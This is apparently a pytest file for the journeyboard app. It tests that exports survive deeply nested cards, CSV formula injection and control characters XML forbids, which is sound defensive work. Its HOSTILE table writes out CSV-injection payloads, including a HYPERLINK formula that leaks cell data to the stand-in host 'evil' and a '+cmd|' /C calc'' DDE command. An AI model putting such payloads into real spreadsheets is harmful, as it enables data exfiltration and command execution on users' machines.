"""Readers and exports survive hostile content (issue #13, findings 3, 11 and 12).

- A card nested 1,000 levels deep costs only that card's deep field, on every read, every
  export and the CLI export after a restart (finding 3).
- Every CSV text cell is neutralised, card ids included (finding 11).
- Characters XML 1.0 forbids never make the SVG poster or the HTML report ill-formed
  (finding 12).
"""

from __future__ import annotations

import csv
import io
import json
import signal
import subprocess
import sys
import xml.etree.ElementTree as ET
from typing import Any

import httpx
from pycrdt import Doc, Map, Text

from conftest import ServerProcess
from journeyboard.exports import csvfile, render
from journeyboard.workshop import documents
from journeyboard.workshop.boardview import build_view
from ysync import synced_client

DEPTH = 1_000
FORMATS = ("json", "csv", "md", "html", "svg")


def export(server: ServerProcess, board: dict[str, Any], fmt: str) -> httpx.Response:
    response = httpx.get(
        f"{server.http}/api/boards/{board['id']}/export.{fmt}",
        headers={"Authorization": f"Bearer {board['tokens']['viewer']}"},
        timeout=60,
    )
    assert response.status_code == 200, (fmt, response.text)
    return response


def nest(target: Map[Any], depth: int) -> None:
    """Nest maps `depth` levels deep under target["deep"], without recursion."""
    current = target
    for _ in range(depth):
        child: Map[Any] = Map()
        current["deep"] = child
        current = child


async def write_deep_board(server: ServerProcess, board: dict[str, Any]) -> str:
    url = server.url(board["id"], board["tokens"]["participant"])
    async with synced_client(url) as client:
        stage = next(iter(client.doc.get("stages", type=Map).keys()))

        def honest(doc: Any) -> None:
            cards = doc.get("cards", type=Map)
            for n in range(3):
                cards[f"ok{n}"] = Map({"kind": "pain", "stage": stage, "pos": f"a{n}",
                                       "text": Text(f"honest {n}")})  # fmt: skip

        await client.change(honest)

        def deep(doc: Any) -> None:
            cards = doc.get("cards", type=Map)
            card: Map[Any] = Map({"kind": "note", "stage": stage, "pos": "b0"})
            cards["poison"] = card
            card["text"] = Text("poisoned card")
            nest(card, DEPTH)

        update = await client.change(deep)
        assert 10_000 < len(update) < 40_000  # the 14 KB update
        # a second deep value straight under cards: not even a map of fields
        await client.change(lambda doc: nest(doc.get("cards", type=Map), DEPTH))
    return stage


def assert_honest(server: ServerProcess, board: dict[str, Any]) -> None:
    state = server.get_board(board["id"], board["tokens"]["viewer"])
    cards = state["content"]["cards"]
    assert {f"ok{n}" for n in range(3)} <= set(cards)
    assert cards["ok1"]["text"] == "honest 1"
    assert cards["poison"]["text"] == "poisoned card" and "deep" not in cards["poison"]

    data = export(server, board, "json").json()
    texts = {card["id"]: card["text"] for card in data["cards"]}
    assert texts == {"ok0": "honest 0", "ok1": "honest 1", "ok2": "honest 2",
                     "poison": "poisoned card"}  # fmt: skip
    skipped = {(item["id"], item["field"]) for item in data["skipped"]}
    assert skipped == {("poison", "deep"), ("deep", "deep")}
    assert all("deeper than" in item["reason"] for item in data["skipped"])

    rows = list(csv.DictReader(io.StringIO(export(server, board, "csv").text.lstrip("\ufeff"))))
    assert sorted(row["text"] for row in rows) == [
        "honest 0", "honest 1", "honest 2", "poisoned card"]  # fmt: skip
    for fmt in ("md", "html", "svg"):
        body = export(server, board, fmt).text
        assert all(f"honest {n}" in body for n in range(3)), fmt


async def test_deep_nesting_costs_only_the_deep_field(make_server: Any) -> None:
    server: ServerProcess = make_server("--grace", "1")
    board = server.create_board("Deep board")
    await write_deep_board(server, board)
    assert_honest(server, board)

    # after a restart (the room loads from the store) every read is still whole
    server.kill(signal.SIGTERM)
    server.start()
    assert_honest(server, board)

    # and `journeyboard export` on the stopped server's store
    server.kill(signal.SIGTERM)
    cli_export_is_whole(server, board)


def cli_export_is_whole(server: ServerProcess, board: dict[str, Any]) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "journeyboard", "export", board["id"], "--store",
         server.store_url, "--format", "json"],
        capture_output=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    assert {card["id"] for card in data["cards"]} == {"ok0", "ok1", "ok2", "poison"}


def test_reader_bounds_depth_in_process() -> None:
    doc: Doc[Any] = Doc()
    cards = doc.get("cards", type=Map)
    card: Map[Any] = Map({"kind": "pain", "text": Text("t")})
    cards["c"] = card
    nest(card, documents.MAX_READ_DEPTH + 5)
    shallow: Map[Any] = Map({"kind": "note"})
    cards["s"] = shallow
    nest(shallow, 3)
    read = documents.roots_to_json(doc, documents.CONTENT_ROOTS)
    assert read["cards"]["c"] == {"kind": "pain", "text": "t"}
    assert read["cards"]["s"]["deep"]["deep"]["deep"] == {}
    assert read[documents.SKIPPED_KEY] == [
        {"root": "cards", "id": "c", "field": "deep",
         "reason": f"nested deeper than {documents.MAX_READ_DEPTH} levels"}]  # fmt: skip
    assert documents.plain(card) is None and documents.plain(shallow) is not None


# -- finding 11: CSV ------------------------------------------------------------------------

HOSTILE = {
    "id": '=HYPERLINK("http://evil/?"&A1,"click")',
    "stage": "+cmd|' /C calc'!A0",
    "text": "\n=1+1",
    "author": "@SUM(A1)",
    "channel": " =1+1",
    "department": "\t=1",
    "owner": "\uff1d1+1",
    "status": "\uff0bx",
    "kpi": "\r-1",
    "kind_text": "\u3000=1",  # ideographic space before =
}
NUMERIC = {"stage_order", "moment_of_truth", "emotion", "votes", "effort", "impact",
           "effort_spread", "impact_spread"}  # fmt: skip
DANGEROUS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def dangerous(cell: str) -> bool:
    return bool(cell) and (cell[0] in DANGEROUS or cell[0].isspace() or ord(cell[0]) < 0x20)


async def test_csv_neutralises_every_text_cell_including_card_ids(server: ServerProcess) -> None:
    board = server.create_board("CSV board")
    url = server.url(board["id"], board["tokens"]["participant"])
    async with synced_client(url) as client:
        stage = next(iter(client.doc.get("stages", type=Map).keys()))

        def add(doc: Any) -> None:
            doc.get("stages", type=Map)[stage]["name"] = HOSTILE["stage"]
            cards = doc.get("cards", type=Map)
            cards[HOSTILE["id"]] = Map({
                "kind": "touchpoint", "stage": stage, "pos": "a0",
                "text": Text(HOSTILE["text"]), "author": HOSTILE["author"],
                "channel": HOSTILE["channel"], "department": HOSTILE["department"],
                "owner": HOSTILE["owner"], "status": HOSTILE["status"], "kpi": HOSTILE["kpi"],
                "due": "=2025-01-01",
            })  # fmt: skip
            cards["k3"] = Map({"kind": "solution", "stage": stage, "pos": "a2",
                               "text": Text("Dated"), "due": "2025-02-28"})  # fmt: skip
            cards["k4"] = Map({"kind": "solution", "stage": stage, "pos": "a3",
                               "text": Text("Not a day"), "due": "2025-02-30"})  # fmt: skip
            cards["k2"] = Map({"kind": "note", "stage": stage, "pos": "a1",
                               "text": Text(HOSTILE["kind_text"]), "author": "\uff20x"})  # fmt: skip

        await client.change(add)
    for dialect in ("excel", "nordic"):
        response = httpx.get(
            f"{server.http}/api/boards/{board['id']}/export.csv",
            params={"dialect": dialect},
            headers={"Authorization": f"Bearer {board['tokens']['viewer']}"},
        )
        assert response.status_code == 200, response.text
        text = response.content.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline=""),
                                   delimiter="," if dialect == "excel" else ";"))  # fmt: skip
        assert len(rows) == 4
        for row in rows:
            for column, cell in row.items():
                if column not in NUMERIC:
                    assert not dangerous(cell), (dialect, column, cell)
        by_id = {row["card_id"]: row for row in rows}
        card = by_id["'" + HOSTILE["id"]]  # neutralised, and otherwise exact after a round trip
        for column in ("stage", "text", "author", "channel", "department", "owner", "status"):
            assert card[column] == "'" + HOSTILE[column], column
        assert card["kpi"] == "'" + HOSTILE["kpi"]
        assert by_id["k2"]["text"] == "'" + HOSTILE["kind_text"]
        assert by_id["k2"]["author"] == "'\uff20x"
        # A due date is a calendar day written yyyy-mm-dd, or nothing at all.
        assert card["due"] == "" and by_id["k4"]["due"] == ""
        assert by_id["k3"]["due"] == "2025-02-28"


def test_neutralise_rules() -> None:
    for text in ("=1", "+1", "-1", "@a", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", " =1",
                 "\t x", "\r", "\n=1", "\x0b", "\u3000=1", "\u00a0+1"):  # fmt: skip
        assert csvfile.neutralise(text) == "'" + text, repr(text)
    for text in ("", "plain", " plain", "a=b", "1-2", "'quoted"):
        assert csvfile.neutralise(text) == text, repr(text)


# -- finding 12: XML 1.0 ---------------------------------------------------------------------

FORBIDDEN = "".join(chr(c) for c in range(0x20) if c not in (9, 10, 13)) + "\ufffe\uffff"


def hostile_view(extra: str) -> Any:
    bad = "a" + FORBIDDEN + extra + "z"
    content = {
        "stages": {"s" + bad: {"name": "Stage " + bad, "pos": "a"}},
        "cards": {
            f"c{kind}{bad}": {
                "kind": kind,
                "stage": "s" + bad,
                "pos": "a",
                "text": "T " + bad,
                "author": bad,
                "channel": bad,
                "owner": bad,
                "status": bad,
                "emotion": -2,
                "department": bad,
            }
            for kind in ("pain", "feeling", "touchpoint", "solution", "note")
        },
    }
    session = {
        "board": {"title": "Title " + bad, "persona": bad, "scope": bad, "customer_goal": bad},
        "session": {"phase": "results", "revealed": {"votes": True, "ratings": True}},
        "participants": {"p": {"name": bad, "department": bad, "role": "participant"}},
        "votes": {f"cpain{bad}": 2},
        "ratings": {f"csolution{bad}": {"effort": 2, "impact": 3, "n": 2, "effort_spread": 1,
                                        "impact_spread": 1, "quadrant": "quick_win"}},
    }  # fmt: skip
    return build_view("b", content, session)


def assert_well_formed(svg: bytes | str) -> None:
    text = svg.decode() if isinstance(svg, bytes) else svg
    assert not any(ch in text for ch in FORBIDDEN)
    ET.fromstring(text.encode())


def test_svg_and_html_are_well_formed_with_every_forbidden_character() -> None:
    for extra in ("", "\ud800", "\udfff"):  # lone surrogates where Python allows them
        view = hostile_view(extra)
        assert_well_formed(render.render(view, "svg", 0).page(1))
        for page in render.render(view, "svg", 0, tile="A4").bodies:
            assert_well_formed(page)
        html = render.render(view, "html", 0).page(1).decode()
        assert not any(ch in html for ch in FORBIDDEN + "\ud800\udfff")
        for chart in html.split("<svg")[1:]:
            assert_well_formed("<svg" + chart.split("</svg>")[0] + "</svg>")
        assert "Title a" in html


async def test_svg_export_of_a_live_board_with_control_characters(server: ServerProcess) -> None:
    board = server.create_board("Title \x0b\x01 end")
    url = server.url(board["id"], board["tokens"]["participant"])
    async with synced_client(url) as client:
        stage = next(iter(client.doc.get("stages", type=Map).keys()))

        def add(doc: Any) -> None:
            cards = doc.get("cards", type=Map)
            text = "ctl " + FORBIDDEN
            cards["c\x0b1"] = Map({"kind": "pain", "stage": stage, "pos": "a",
                                    "text": Text(text), "author": "\x1f"})  # fmt: skip
            cards["c2"] = Map({"kind": "feeling", "stage": stage, "pos": "b",
                               "text": Text(text), "emotion": 1})  # fmt: skip

        await client.change(add)
    assert_well_formed(export(server, board, "svg").content)
    html = export(server, board, "html").text
    assert not any(ch in html for ch in FORBIDDEN) and "ctl " in html
    assert json.loads(export(server, board, "json").content)["cards"][0]["text"].startswith("ctl")
